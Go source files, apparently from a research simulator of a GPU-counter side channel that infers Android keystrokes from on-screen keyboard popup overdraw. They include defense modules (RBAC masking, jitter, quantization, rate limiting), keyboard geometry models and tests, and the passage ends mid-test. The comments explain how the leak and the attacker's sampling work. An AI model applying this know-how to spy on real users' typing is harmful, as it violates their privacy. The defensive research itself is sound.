		Seed:      uint64(seed),
	})
	return &instance{overhead: d.Overhead(strength)}, nil
}

func init() { Register(noise{}) }
