package defense

import (
	"sort"

	"gpuleak/internal/adreno"
	"gpuleak/internal/channel"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

// rbac is the graded probe-level form of the §9.2 counter-group RBAC: a
// compatibility compromise where unprivileged block reads still succeed
// but counters in restricted groups export a constant instead of their
// value (a full RBACPolicy on the device would fail the whole ioctl —
// availability loss the compromise avoids). Strength selects how many of
// the attack-bearing groups are restricted, escalating from the group
// the paper's ablation shows carries the least signal toward the most:
// VPC first, then RAS, then LRZ — so low strengths cost legitimate
// profilers little, and at strength 1 every selected counter reads as a
// constant and the KGSL channel goes dark.
type rbac struct{}

func (rbac) Name() string { return "rbac" }

func (rbac) Doc() string {
	return "masks restricted counter groups to constants (graded §9.2 RBAC); strength restricts VPC, then RAS, then LRZ"
}

func (rbac) Channels() []string { return []string{channel.DefaultName} }

// rbacGroupOrder is the restriction escalation: groups sorted by how
// much attack signal they carry (ablation-counters), least first, so the
// sweep degrades the attacker gradually instead of going dark at the
// first step.
var rbacGroupOrder = []uint32{adreno.GroupVPC, adreno.GroupRAS, adreno.GroupLRZ}

// rbacMask returns the selected-counter dimensions masked at a strength:
// ceil(strength·len(order)) leading groups of the escalation.
func rbacMask(strength float64) [adreno.NumSelected]bool {
	restricted := int(strength * float64(len(rbacGroupOrder)))
	if float64(restricted) < strength*float64(len(rbacGroupOrder)) {
		restricted++
	}
	if restricted > len(rbacGroupOrder) {
		restricted = len(rbacGroupOrder)
	}
	groups := map[uint32]bool{}
	for _, g := range rbacGroupOrder[:restricted] {
		groups[g] = true
	}
	var mask [adreno.NumSelected]bool
	for i, k := range adreno.Selected {
		mask[i] = groups[k.Group]
	}
	return mask
}

// MaskedGroups reports the group names a strength restricts, sorted —
// the operator-facing view of the escalation the arms report sweeps.
func MaskedGroups(strength float64) []string {
	mask := rbacMask(strength)
	seen := map[string]bool{}
	for i, k := range adreno.Selected {
		if mask[i] {
			seen[adreno.GroupName(k.Group)] = true
		}
	}
	out := make([]string, 0, len(seen))
	for g := range seen {
		out = append(out, g)
	}
	sort.Strings(out)
	return out
}

// Overhead implements Policy: access control is free at read time; the
// estimate is zero at every strength.
func (rbac) Overhead(strength float64) float64 { return 0 }

// Arm implements Policy.
func (d rbac) Arm(sess *victim.Session, strength float64, seed int64) (Instance, error) {
	if err := checkStrength(strength); err != nil {
		return nil, err
	}
	if strength == 0 {
		return passthrough{}, nil
	}
	mask := rbacMask(strength)
	return &instance{
		channels: d.Channels(),
		overhead: d.Overhead(strength),
		wrap: func(channelName string, p channel.Probe) channel.Probe {
			return &maskedProbe{inner: p, mask: mask}
		},
	}, nil
}

func init() { Register(rbac{}) }

// maskedProbe zeroes restricted dimensions on every read. A constant
// zero is monotone and delta-free: restricted counters contribute
// nothing to the weighted distance, exactly like a channel that never
// fills those dimensions.
type maskedProbe struct {
	inner channel.Probe
	mask  [adreno.NumSelected]bool
}

func (p *maskedProbe) ReserveSelected(t sim.Time) error { return p.inner.ReserveSelected(t) }

func (p *maskedProbe) ReadSelected(t sim.Time) (trace.Raw, error) {
	vals, err := p.inner.ReadSelected(t)
	if err != nil {
		return vals, err
	}
	for i := range vals {
		if p.mask[i] {
			vals[i] = 0
		}
	}
	return vals, nil
}

func (p *maskedProbe) TickFault(tick int, t sim.Time) (sim.Time, bool) {
	return forwardTickFault(p.inner, tick, t)
}
