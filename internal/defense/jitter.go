package defense

import (
	"gpuleak/internal/channel"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

// jitterMax is the largest added read latency at strength 1: three
// quarters of the 8 ms polling interval, enough to smear a key press
// across neighboring ticks without stalling the interface outright.
const jitterMax = 6 * sim.Millisecond

// jitter is read-latency jitter: the kernel delays each unprivileged
// counter read by a seeded, per-read random latency before snapshotting,
// so the values land at perturbed times while the attacker still stamps
// them on its own polling grid. The temporal misalignment splits and
// merges per-key deltas — the segmentation layer's worst enemy — at a
// small latency cost and no GPU work. The delay for a read at tick time
// t is a pure function of (seed, t), and perturbed snapshot times are
// kept strictly monotone so cumulative counters never regress.
type jitter struct{}

func (jitter) Name() string { return "jitter" }

func (jitter) Doc() string {
	return "delays each counter read by a seeded random latency up to strength*6ms, smearing deltas across polling ticks"
}

func (jitter) Channels() []string { return []string{channel.DefaultName, "proccount"} }

// Overhead implements Policy: the added latency is bounded by the
// polling interval; the platform cost is scheduling slack, not GPU work.
func (jitter) Overhead(strength float64) float64 { return 0.02 * strength }

// Arm implements Policy.
func (d jitter) Arm(sess *victim.Session, strength float64, seed int64) (Instance, error) {
	if err := checkStrength(strength); err != nil {
		return nil, err
	}
	if strength == 0 {
		return passthrough{}, nil
	}
	max := sim.Time(strength * float64(jitterMax))
	if max < 1 {
		max = 1
	}
	return &instance{
		channels: d.Channels(),
		overhead: d.Overhead(strength),
		wrap: func(channelName string, p channel.Probe) channel.Probe {
			return &jitteredProbe{inner: p, max: max, seed: uint64(seed), last: -1}
		},
	}, nil
}

func init() { Register(jitter{}) }

// jitteredProbe perturbs the snapshot time of every read. The monotone
// clamp (never at or before the previous snapshot) preserves the
// cumulative-counter contract under retries and backoff re-reads.
type jitteredProbe struct {
	inner channel.Probe
	max   sim.Time
	seed  uint64
	last  sim.Time
}

func (p *jitteredProbe) ReserveSelected(t sim.Time) error { return p.inner.ReserveSelected(t) }

func (p *jitteredProbe) ReadSelected(t sim.Time) (trace.Raw, error) {
	d := sim.Time(splitmix(p.seed^uint64(t)) % uint64(p.max+1))
	at := t + d
	if at <= p.last {
		at = p.last + 1
	}
	vals, err := p.inner.ReadSelected(at)
	if err != nil {
		return vals, err
	}
	p.last = at
	return vals, nil
}

func (p *jitteredProbe) TickFault(tick int, t sim.Time) (sim.Time, bool) {
	return forwardTickFault(p.inner, tick, t)
}
