package defense

import (
	"math"

	"gpuleak/internal/channel"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

// quantize is counter quantization, the filtering defense EavesDroid's
// countermeasure section evaluates on OS counters and the paper's §9
// names for GPU ones: the kernel rounds every exported counter value
// down to a multiple of a per-counter quantum before unprivileged
// readers see it. Real work still accrues — the export is merely
// coarse — so the defense costs almost nothing, but per-key deltas
// collapse onto the quantization grid and the centroid classifier loses
// its geometry. Strength sweeps the quantum geometrically up to one full
// typical key-press delta per counter: key presses spread over many
// polling ticks, so per-tick increments sit one to two decades below the
// per-key magnitude, and a linear quantum ramp would blank the channel
// at the very first step. The geometric ramp (quantum = scaleᵉˣᵖ)
// walks those decades instead, giving the frontier a graded curve.
type quantize struct{}

func (quantize) Name() string { return "quantize" }

func (quantize) Doc() string {
	return "rounds exported counter values down to a per-counter quantum; strength sweeps it geometrically up to one key-press delta"
}

func (quantize) Channels() []string { return []string{channel.DefaultName, "proccount"} }

// Overhead implements Policy: quantization is a pure export filter; the
// only cost is the masking arithmetic in the read path.
func (quantize) Overhead(strength float64) float64 { return 0.005 * strength }

// quantizeScale holds the per-channel reference magnitudes the quantum
// is scaled against: the KGSL channel reuses the obfuscator's typical
// key-press deltas, the proccount channel uses the per-key magnitudes of
// its four OS counters (IRQ and context-switch counts, softirq work
// units, busy-time microseconds).
func quantizeScale(channelName string) (trace.Raw, bool) {
	switch channelName {
	case channel.DefaultName:
		var s trace.Raw
		copy(s[:], DefaultCounterScale[:])
		return s, true
	case "proccount":
		return trace.Raw{6, 40, 16, 6000}, true
	}
	return trace.Raw{}, false
}

// Arm implements Policy.
func (d quantize) Arm(sess *victim.Session, strength float64, seed int64) (Instance, error) {
	if err := checkStrength(strength); err != nil {
		return nil, err
	}
	if strength == 0 {
		return passthrough{}, nil
	}
	return &instance{
		channels: d.Channels(),
		overhead: d.Overhead(strength),
		wrap: func(channelName string, p channel.Probe) channel.Probe {
			scale, ok := quantizeScale(channelName)
			if !ok {
				return p
			}
			var q trace.Raw
			for i, s := range scale {
				q[i] = 1 + uint64(math.Pow(float64(s), strength))
			}
			return &quantizedProbe{inner: p, quantum: q}
		},
	}, nil
}

func init() { Register(quantize{}) }

// quantizedProbe floors every counter value to its quantum's grid.
// Flooring preserves monotonicity, so the sampler's wrap check never
// misfires on a quantized channel.
type quantizedProbe struct {
	inner   channel.Probe
	quantum trace.Raw
}

func (p *quantizedProbe) ReserveSelected(t sim.Time) error { return p.inner.ReserveSelected(t) }

func (p *quantizedProbe) ReadSelected(t sim.Time) (trace.Raw, error) {
	vals, err := p.inner.ReadSelected(t)
	if err != nil {
		return vals, err
	}
	for i, v := range vals {
		vals[i] = v - v%p.quantum[i]
	}
	return vals, nil
}

func (p *quantizedProbe) TickFault(tick int, t sim.Time) (sim.Time, bool) {
	return forwardTickFault(p.inner, tick, t)
}
