package defense

import (
	"fmt"

	"gpuleak/internal/channel"
	"gpuleak/internal/fault"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

// rateLimit is the counter-interface rate limiter the paper's §9 sketch
// and the KGSL hardening patches both reach for first: the kernel bounds
// how often an unprivileged process may read the counter surface, and
// reads beyond the budget fail with the channel's transient-busy errno
// (EBUSY on KGSL, EAGAIN on procfs). The attacker's retry machinery
// absorbs denials into backoff and trace gaps, so the defense degrades
// accuracy by starving the sampling cadence rather than by breaking
// availability outright.
//
// The token bucket runs over sim-time and is a pure function of (read
// time, grants so far): token i becomes available at i*period, a read at
// t is granted while grants < t/period + burst. Strength maps onto the
// sustained rate: 0.25 still covers most of the 125 Hz polling cadence,
// 1.0 leaves a handful of reads per second.
type rateLimit struct{}

func (rateLimit) Name() string { return "ratelimit" }

func (rateLimit) Doc() string {
	return "token bucket over sim-time on counter reads; strength shrinks the sustained read rate from ~139/s to 4/s"
}

func (rateLimit) Channels() []string { return []string{channel.DefaultName, "proccount"} }

// rateLimitRate maps strength onto the sustained read budget in reads
// per second: 4 + 240·(1−s)², from ~139/s at 0.25 (mild gaps against the
// 125 Hz sampler) down to 4/s at 1.0 (30 of every 31 ticks starve).
func rateLimitRate(strength float64) float64 {
	return 4 + 240*(1-strength)*(1-strength)
}

// Overhead implements Policy: rate limiting costs only admission
// bookkeeping in the driver, no GPU work.
func (rateLimit) Overhead(strength float64) float64 { return 0.01 * strength }

// Arm implements Policy.
func (d rateLimit) Arm(sess *victim.Session, strength float64, seed int64) (Instance, error) {
	if err := checkStrength(strength); err != nil {
		return nil, err
	}
	if strength == 0 {
		return passthrough{}, nil
	}
	period := sim.Time(float64(sim.Second) / rateLimitRate(strength))
	if period < 1 {
		period = 1
	}
	return &instance{
		channels: d.Channels(),
		overhead: d.Overhead(strength),
		wrap: func(channelName string, p channel.Probe) channel.Probe {
			return &rateLimitedProbe{inner: p, period: period, burst: 2, tax: taxonomyOf(channelName)}
		},
	}, nil
}

func init() { Register(rateLimit{}) }

// taxonomyOf resolves a channel's error taxonomy so wrapped probes deny
// with the sentinel family the channel's retry classification recovers.
func taxonomyOf(channelName string) fault.Taxonomy {
	ch, err := channel.Get(channelName)
	if err != nil {
		return fault.KGSL()
	}
	return ch.Taxonomy()
}

// rateLimitedProbe denies ReadSelected beyond the token budget with the
// channel's Busy sentinel. Reservation is a one-time control call and
// stays unmetered, like PERFCOUNTER_GET against a read limiter.
type rateLimitedProbe struct {
	inner  channel.Probe
	period sim.Time
	burst  int64
	tax    fault.Taxonomy
	grants int64
}

func (p *rateLimitedProbe) ReserveSelected(t sim.Time) error { return p.inner.ReserveSelected(t) }

func (p *rateLimitedProbe) ReadSelected(t sim.Time) (trace.Raw, error) {
	if t < 0 {
		t = 0
	}
	if p.grants >= int64(t/p.period)+p.burst {
		return trace.Raw{}, fmt.Errorf("defense: ratelimit: read budget exhausted at %v: %w", t, p.tax.Busy)
	}
	p.grants++
	return p.inner.ReadSelected(t)
}

func (p *rateLimitedProbe) TickFault(tick int, t sim.Time) (sim.Time, bool) {
	return forwardTickFault(p.inner, tick, t)
}
