// Package keyboard models Android on-screen keyboards: layouts (rows of
// weighted keys over four pages), per-resolution key geometry, and the key
// press popup whose GPU overdraw is the paper's side channel. Six popular
// keyboards are provided matching §7.1 of the paper; they differ in
// keyboard height, key padding, popup size and popup animation richness
// (the source of the "duplication" artifact).
package keyboard

import (
	"fmt"

	"gpuleak/internal/geom"
)

// Page selects which character page the keyboard shows.
type Page int

// Keyboard pages.
const (
	PageLower Page = iota
	PageUpper
	PageNumber
	PageSymbol
	numPages
)

func (p Page) String() string {
	switch p {
	case PageLower:
		return "lower"
	case PageUpper:
		return "upper"
	case PageNumber:
		return "number"
	case PageSymbol:
		return "symbol"
	}
	return fmt.Sprintf("page(%d)", int(p))
}

// Control runes used by layouts.
const (
	KeyShift     rune = '⇧'
	KeyBackspace rune = '⌫'
	KeyEnter     rune = '⏎'
	KeySymbols   rune = '⌨' // page-switch key
	KeySpace     rune = ' '
)

// KeyDef is one key in a row: its rune and its width weight relative to a
// standard key.
type KeyDef struct {
	R rune
	W float64
}

// Row is a horizontal run of keys.
type Row []KeyDef

func k(r rune) KeyDef             { return KeyDef{R: r, W: 1} }
func kw(r rune, w float64) KeyDef { return KeyDef{R: r, W: w} }

func rowOf(s string) Row {
	var r Row
	for _, c := range s {
		r = append(r, k(c))
	}
	return r
}

// PopupStyle describes the key press popup of a keyboard.
type PopupStyle struct {
	// ScaleW/ScaleH size the popup relative to the key.
	ScaleW, ScaleH float64
	// RiseFrac lifts the popup above the key top by this fraction of key
	// height.
	RiseFrac float64
	// AnimFrames is how many frames the popup entry animation draws.
	AnimFrames int
	// DupProb is the probability that the animation emits a second,
	// identical counter delta (the paper's "duplication", §5.1).
	DupProb float64
}

// Layout is a keyboard product: rows per page plus styling.
type Layout struct {
	Name string
	// HeightFrac is the keyboard height as a fraction of screen height.
	HeightFrac float64
	// InsetFrac is per-key padding as a fraction of key width.
	InsetFrac float64
	// LabelScale sizes the key label glyph relative to the key.
	LabelScale float64
	Popup      PopupStyle
	pages      [numPages][]Row
}

// qwertyPages builds the standard page set. Uppercase mirrors lowercase.
func qwertyPages() [numPages][]Row {
	lowerRows := []Row{
		rowOf("qwertyuiop"),
		rowOf("asdfghjkl"),
		append(append(Row{kw(KeyShift, 1.5)}, rowOf("zxcvbnm")...), kw(KeyBackspace, 1.5)),
		{kw(KeySymbols, 1.5), k(','), kw(KeySpace, 4), k('.'), kw(KeyEnter, 1.5)},
	}
	upperRows := []Row{
		rowOf("QWERTYUIOP"),
		rowOf("ASDFGHJKL"),
		append(append(Row{kw(KeyShift, 1.5)}, rowOf("ZXCVBNM")...), kw(KeyBackspace, 1.5)),
		{kw(KeySymbols, 1.5), k(','), kw(KeySpace, 4), k('.'), kw(KeyEnter, 1.5)},
	}
	numberRows := []Row{
		rowOf("1234567890"),
		rowOf("@#$&-+()/"),
		append(append(Row{kw(KeySymbols, 1.5)}, rowOf(`*"':;!?`)...), kw(KeyBackspace, 1.5)),
		{kw(KeyShift, 1.5), k(','), kw(KeySpace, 4), k('.'), kw(KeyEnter, 1.5)},
	}
	symbolRows := []Row{
		rowOf("~`|•%^={}"),
		rowOf(`\<>[]_+()`),
		append(append(Row{kw(KeySymbols, 1.5)}, rowOf(`*"':;!?`)...), kw(KeyBackspace, 1.5)),
		{kw(KeyShift, 1.5), k(','), kw(KeySpace, 4), k('.'), kw(KeyEnter, 1.5)},
	}
	return [numPages][]Row{lowerRows, upperRows, numberRows, symbolRows}
}

// The six keyboards evaluated in Figure 20. Popup/size parameters are the
// visible differences between their UI designs; the qwerty page structure
// is shared (all six are qwerty keyboards in the paper's experiments).
var (
	GBoard = &Layout{
		Name: "gboard", HeightFrac: 0.36, InsetFrac: 0.06, LabelScale: 0.55,
		Popup: PopupStyle{ScaleW: 1.35, ScaleH: 1.25, RiseFrac: 1.05, AnimFrames: 2, DupProb: 0.18},
		pages: qwertyPages(),
	}
	Swift = &Layout{
		Name: "swift", HeightFrac: 0.38, InsetFrac: 0.04, LabelScale: 0.56,
		Popup: PopupStyle{ScaleW: 1.25, ScaleH: 1.20, RiseFrac: 1.00, AnimFrames: 2, DupProb: 0.11},
		pages: qwertyPages(),
	}
	Sogou = &Layout{
		Name: "sogou", HeightFrac: 0.40, InsetFrac: 0.07, LabelScale: 0.60,
		Popup: PopupStyle{ScaleW: 1.45, ScaleH: 1.30, RiseFrac: 1.10, AnimFrames: 2, DupProb: 0.12},
		pages: qwertyPages(),
	}
	Pinyin = &Layout{
		Name: "pinyin", HeightFrac: 0.37, InsetFrac: 0.05, LabelScale: 0.57,
		Popup: PopupStyle{ScaleW: 1.30, ScaleH: 1.22, RiseFrac: 0.95, AnimFrames: 2, DupProb: 0.12},
		pages: qwertyPages(),
	}
	Go = &Layout{
		Name: "go", HeightFrac: 0.35, InsetFrac: 0.08, LabelScale: 0.58,
		Popup: PopupStyle{ScaleW: 1.40, ScaleH: 1.28, RiseFrac: 1.00, AnimFrames: 2, DupProb: 0.15},
		pages: qwertyPages(),
	}
	Grammarly = &Layout{
		Name: "grammarly", HeightFrac: 0.34, InsetFrac: 0.05, LabelScale: 0.55,
		Popup: PopupStyle{ScaleW: 1.22, ScaleH: 1.18, RiseFrac: 0.98, AnimFrames: 2, DupProb: 0.10},
		pages: qwertyPages(),
	}
)

// All lists every modeled keyboard, in Figure-20 order.
var All = []*Layout{Swift, GBoard, Sogou, Pinyin, Go, Grammarly}

// ByName returns the layout with the given name, or nil.
func ByName(name string) *Layout {
	for _, l := range All {
		if l.Name == name {
			return l
		}
	}
	return nil
}

// Rows returns the row definitions of a page.
func (l *Layout) Rows(p Page) []Row {
	if p < 0 || p >= numPages {
		return nil
	}
	return l.pages[p]
}

// PageFor returns the page on which rune r can be typed. Runes on multiple
// pages (',', '.', space, controls) resolve to the lowest page.
func (l *Layout) PageFor(r rune) (Page, bool) {
	for p := PageLower; p < numPages; p++ {
		for _, row := range l.pages[p] {
			for _, kd := range row {
				if kd.R == r {
					return p, true
				}
			}
		}
	}
	return 0, false
}

// Key is a concrete, positioned key.
type Key struct {
	Def      KeyDef
	Page     Page
	Rect     geom.Rect // full key cell
	Face     geom.Rect // visible key cap (cell minus inset)
	LabelBox geom.Rect // glyph box of the key label
}

// Rune returns the key's character.
func (key Key) Rune() rune { return key.Def.R }

// Geometry is a layout realized on a concrete screen.
type Geometry struct {
	Layout *Layout
	Page   Page
	Screen geom.Size
	Bounds geom.Rect // keyboard window
	Keys   []Key
	byRune map[rune]int
}

// Geometry positions every key of the given page on the screen. The
// keyboard occupies the bottom HeightFrac of the screen, as Android IMEs
// do.
func (l *Layout) Geometry(screen geom.Size, page Page) *Geometry {
	g := &Geometry{Layout: l, Page: page, Screen: screen, byRune: make(map[rune]int)}
	kbH := int(float64(screen.H) * l.HeightFrac)
	g.Bounds = geom.Rect{X0: 0, Y0: screen.H - kbH, X1: screen.W, Y1: screen.H}

	rows := l.Rows(page)
	rowH := kbH / len(rows)
	for ri, row := range rows {
		var totalW float64
		for _, kd := range row {
			totalW += kd.W
		}
		x := 0.0
		unit := float64(screen.W) / totalW
		y0 := g.Bounds.Y0 + ri*rowH
		for _, kd := range row {
			w := kd.W * unit
			cell := geom.Rect{X0: int(x), Y0: y0, X1: int(x + w), Y1: y0 + rowH}
			inset := int(unit * l.InsetFrac)
			face := cell.Inset(inset)
			label := labelBox(face, l.LabelScale)
			key := Key{Def: kd, Page: page, Rect: cell, Face: face, LabelBox: label}
			if _, dup := g.byRune[kd.R]; !dup {
				g.byRune[kd.R] = len(g.Keys)
			}
			g.Keys = append(g.Keys, key)
			x += w
		}
	}
	return g
}

// labelBox centers a glyph box of the given scale inside a key face.
func labelBox(face geom.Rect, scale float64) geom.Rect {
	w := int(float64(face.W()) * scale * 0.7)
	h := int(float64(face.H()) * scale)
	cx := (face.X0 + face.X1) / 2
	cy := (face.Y0 + face.Y1) / 2
	return geom.Rect{X0: cx - w/2, Y0: cy - h/2, X1: cx + w/2, Y1: cy + h/2}
}

// KeyFor finds the key producing rune r on this page.
func (g *Geometry) KeyFor(r rune) (Key, bool) {
	i, ok := g.byRune[r]
	if !ok {
		return Key{}, false
	}
	return g.Keys[i], true
}

// PopupRect computes where the press popup of a key appears: enlarged and
// lifted above the key, clamped to the screen. Because the popup is drawn
// on top of the keyboard it occludes the key(s) underneath — the source of
// key-specific overdraw (Figure 1 of the paper).
func (g *Geometry) PopupRect(key Key) geom.Rect {
	style := g.Layout.Popup
	w := int(float64(key.Face.W()) * style.ScaleW)
	h := int(float64(key.Face.H()) * style.ScaleH)
	cx := (key.Face.X0 + key.Face.X1) / 2
	top := key.Face.Y0 - int(float64(key.Face.H())*style.RiseFrac)
	r := geom.Rect{X0: cx - w/2, Y0: top, X1: cx + w/2, Y1: top + h}
	// Clamp inside the screen.
	if r.X0 < 0 {
		r = r.Translate(-r.X0, 0)
	}
	if r.X1 > g.Screen.W {
		r = r.Translate(g.Screen.W-r.X1, 0)
	}
	if r.Y0 < 0 {
		r = r.Translate(0, -r.Y0)
	}
	return r
}

// PopupGlyphBox returns the glyph box inside a popup rect.
func (g *Geometry) PopupGlyphBox(popup geom.Rect) geom.Rect {
	w := int(float64(popup.W()) * 0.55)
	h := int(float64(popup.H()) * 0.70)
	cx := (popup.X0 + popup.X1) / 2
	cy := (popup.Y0 + popup.Y1) / 2
	return geom.Rect{X0: cx - w/2, Y0: cy - h/2, X1: cx + w/2, Y1: cy + h/2}
}

// TypableRunes lists every non-control rune reachable across pages,
// deduplicated, in page order. This is the alphabet of the offline phase.
func (l *Layout) TypableRunes() []rune {
	seen := map[rune]bool{}
	var out []rune
	for p := PageLower; p < numPages; p++ {
		for _, row := range l.pages[p] {
			for _, kd := range row {
				switch kd.R {
				case KeyShift, KeyBackspace, KeyEnter, KeySymbols, KeySpace:
					continue
				}
				if !seen[kd.R] {
					seen[kd.R] = true
					out = append(out, kd.R)
				}
			}
		}
	}
	return out
}

// Validate checks a layout's structural invariants: every page has rows,
// every row has positive weights, and no control rune appears twice in a
// row. Useful when defining custom layouts.
func (l *Layout) Validate() error {
	if l.Name == "" {
		return fmt.Errorf("keyboard: layout has no name")
	}
	if l.HeightFrac <= 0 || l.HeightFrac > 0.6 {
		return fmt.Errorf("keyboard %s: implausible height fraction %v", l.Name, l.HeightFrac)
	}
	for p := PageLower; p < numPages; p++ {
		rows := l.Rows(p)
		if len(rows) == 0 {
			return fmt.Errorf("keyboard %s: page %v has no rows", l.Name, p)
		}
		for ri, row := range rows {
			if len(row) == 0 {
				return fmt.Errorf("keyboard %s: page %v row %d empty", l.Name, p, ri)
			}
			seen := map[rune]bool{}
			for _, kd := range row {
				if kd.W <= 0 {
					return fmt.Errorf("keyboard %s: key %q has weight %v", l.Name, kd.R, kd.W)
				}
				if seen[kd.R] {
					return fmt.Errorf("keyboard %s: rune %q repeated in page %v row %d", l.Name, kd.R, p, ri)
				}
				seen[kd.R] = true
			}
		}
	}
	if l.Popup.ScaleW <= 1 || l.Popup.ScaleH <= 1 {
		return fmt.Errorf("keyboard %s: popup must be larger than the key", l.Name)
	}
	if l.Popup.DupProb < 0 || l.Popup.DupProb > 1 {
		return fmt.Errorf("keyboard %s: duplication probability %v", l.Name, l.Popup.DupProb)
	}
	return nil
}
