package keyboard

import (
	"testing"

	"gpuleak/internal/geom"
	"gpuleak/internal/glyph"
)

var screen = geom.Size{W: 1080, H: 2376} // FHD+

func TestAllKeyboardsPresent(t *testing.T) {
	names := map[string]bool{}
	for _, l := range All {
		names[l.Name] = true
	}
	for _, want := range []string{"swift", "gboard", "sogou", "pinyin", "go", "grammarly"} {
		if !names[want] {
			t.Errorf("keyboard %q missing", want)
		}
	}
	if ByName("gboard") != GBoard {
		t.Fatal("ByName broken")
	}
	if ByName("nope") != nil {
		t.Fatal("ByName returned non-nil for unknown")
	}
}

func TestPaperCharsetTypable(t *testing.T) {
	// Figure 18's x-axis characters must all be reachable on GBoard.
	charset := "abcdefghijklmnopqrstuvwxyz1234567890,." +
		"ABCDEFGHIJKLMNOPQRSTUVWXYZ" + `@#$&-+()/*"':;!?`
	for _, r := range charset {
		if _, ok := GBoard.PageFor(r); !ok {
			t.Errorf("rune %q not typable on gboard", r)
		}
	}
}

func TestAllTypableRunesHaveGlyphs(t *testing.T) {
	for _, l := range All {
		for _, r := range l.TypableRunes() {
			if _, ok := glyph.Lookup(r); !ok {
				t.Errorf("keyboard %s: rune %q has no glyph", l.Name, r)
			}
		}
	}
}

func TestGeometryCoversScreenWidth(t *testing.T) {
	g := GBoard.Geometry(screen, PageLower)
	if g.Bounds.X0 != 0 || g.Bounds.X1 != screen.W || g.Bounds.Y1 != screen.H {
		t.Fatalf("keyboard bounds wrong: %v", g.Bounds)
	}
	wantH := int(float64(screen.H) * GBoard.HeightFrac)
	if g.Bounds.H() != wantH {
		t.Fatalf("keyboard height = %d, want %d", g.Bounds.H(), wantH)
	}
}

func TestKeysDoNotOverlap(t *testing.T) {
	for _, l := range All {
		g := l.Geometry(screen, PageLower)
		for i := 0; i < len(g.Keys); i++ {
			for j := i + 1; j < len(g.Keys); j++ {
				if g.Keys[i].Face.Overlaps(g.Keys[j].Face) {
					t.Fatalf("%s: keys %q and %q overlap", l.Name, g.Keys[i].Rune(), g.Keys[j].Rune())
				}
			}
		}
	}
}

func TestKeysInsideKeyboard(t *testing.T) {
	for _, page := range []Page{PageLower, PageUpper, PageNumber, PageSymbol} {
		g := GBoard.Geometry(screen, page)
		for _, key := range g.Keys {
			if !g.Bounds.Contains(key.Rect) {
				t.Fatalf("page %v key %q escapes keyboard: %v", page, key.Rune(), key.Rect)
			}
			if !key.Rect.Contains(key.Face) || !key.Face.Contains(key.LabelBox) {
				t.Fatalf("key %q nesting broken", key.Rune())
			}
		}
	}
}

func TestKeyFor(t *testing.T) {
	g := GBoard.Geometry(screen, PageLower)
	key, ok := g.KeyFor('w')
	if !ok || key.Rune() != 'w' {
		t.Fatal("KeyFor('w') failed")
	}
	if _, ok := g.KeyFor('5'); ok {
		t.Fatal("digit found on lower page")
	}
	gn := GBoard.Geometry(screen, PageNumber)
	if _, ok := gn.KeyFor('5'); !ok {
		t.Fatal("digit missing on number page")
	}
}

func TestPopupAboveKeyAndBigger(t *testing.T) {
	g := GBoard.Geometry(screen, PageLower)
	key, _ := g.KeyFor('g')
	popup := g.PopupRect(key)
	if popup.Area() <= key.Face.Area() {
		t.Fatalf("popup (%v) not larger than key (%v)", popup, key.Face)
	}
	if popup.Y0 >= key.Face.Y0 {
		t.Fatal("popup not lifted above the key")
	}
	if popup.X0 < 0 || popup.X1 > screen.W || popup.Y0 < 0 {
		t.Fatalf("popup escapes screen: %v", popup)
	}
}

func TestEdgeKeyPopupClamped(t *testing.T) {
	g := GBoard.Geometry(screen, PageLower)
	for _, r := range "qp" { // leftmost and rightmost keys
		key, _ := g.KeyFor(r)
		popup := g.PopupRect(key)
		if popup.X0 < 0 || popup.X1 > screen.W {
			t.Fatalf("popup of edge key %q escapes: %v", r, popup)
		}
	}
}

func TestPopupGlyphBoxInsidePopup(t *testing.T) {
	g := GBoard.Geometry(screen, PageLower)
	key, _ := g.KeyFor('m')
	popup := g.PopupRect(key)
	gb := g.PopupGlyphBox(popup)
	if !popup.Contains(gb) {
		t.Fatalf("glyph box %v escapes popup %v", gb, popup)
	}
}

func TestDifferentKeysDifferentPopups(t *testing.T) {
	g := GBoard.Geometry(screen, PageLower)
	seen := map[geom.Rect]rune{}
	for _, r := range "qwertyuiopasdfghjklzxcvbnm" {
		key, _ := g.KeyFor(r)
		popup := g.PopupRect(key)
		if prev, dup := seen[popup]; dup {
			t.Fatalf("keys %q and %q share popup rect %v", prev, r, popup)
		}
		seen[popup] = r
	}
}

func TestKeyboardsDiffer(t *testing.T) {
	// The six keyboards must produce distinct geometry so that per-config
	// classifiers are genuinely needed (paper §3.2).
	kinds := map[int]bool{}
	for _, l := range All {
		g := l.Geometry(screen, PageLower)
		kinds[g.Bounds.H()] = true
	}
	if len(kinds) < 4 {
		t.Fatalf("keyboard heights too uniform: %d distinct", len(kinds))
	}
}

func TestDupProbOnlyWithRichAnimation(t *testing.T) {
	for _, l := range All {
		if l.Popup.AnimFrames < 2 && l.Popup.DupProb > 0.10 {
			t.Errorf("%s: high dup prob without rich animation", l.Name)
		}
	}
	if GBoard.Popup.DupProb < Swift.Popup.DupProb {
		t.Fatal("gboard must be more duplication-prone than swift (richer animation)")
	}
}

func TestPageString(t *testing.T) {
	if PageLower.String() != "lower" || PageSymbol.String() != "symbol" {
		t.Fatal("page names wrong")
	}
	if Page(9).String() == "" {
		t.Fatal("out-of-range page has empty name")
	}
}

func TestRowsOutOfRange(t *testing.T) {
	if GBoard.Rows(Page(99)) != nil {
		t.Fatal("out-of-range page returned rows")
	}
}

func TestGeometryDeterministic(t *testing.T) {
	a := GBoard.Geometry(screen, PageLower)
	b := GBoard.Geometry(screen, PageLower)
	if len(a.Keys) != len(b.Keys) {
		t.Fatal("geometry nondeterministic")
	}
	for i := range a.Keys {
		if a.Keys[i] != b.Keys[i] {
			t.Fatalf("key %d differs across builds", i)
		}
	}
}

func TestQHDGeometryScales(t *testing.T) {
	qhd := geom.Size{W: 1440, H: 3168}
	a := GBoard.Geometry(screen, PageLower)
	b := GBoard.Geometry(qhd, PageLower)
	ka, _ := a.KeyFor('g')
	kb, _ := b.KeyFor('g')
	if kb.Face.Area() <= ka.Face.Area() {
		t.Fatal("QHD keys not larger than FHD keys")
	}
}

func TestAllLayoutsValidate(t *testing.T) {
	for _, l := range All {
		if err := l.Validate(); err != nil {
			t.Errorf("%s: %v", l.Name, err)
		}
	}
}

func TestValidateCatchesBadLayouts(t *testing.T) {
	bad := *GBoard
	bad.Name = ""
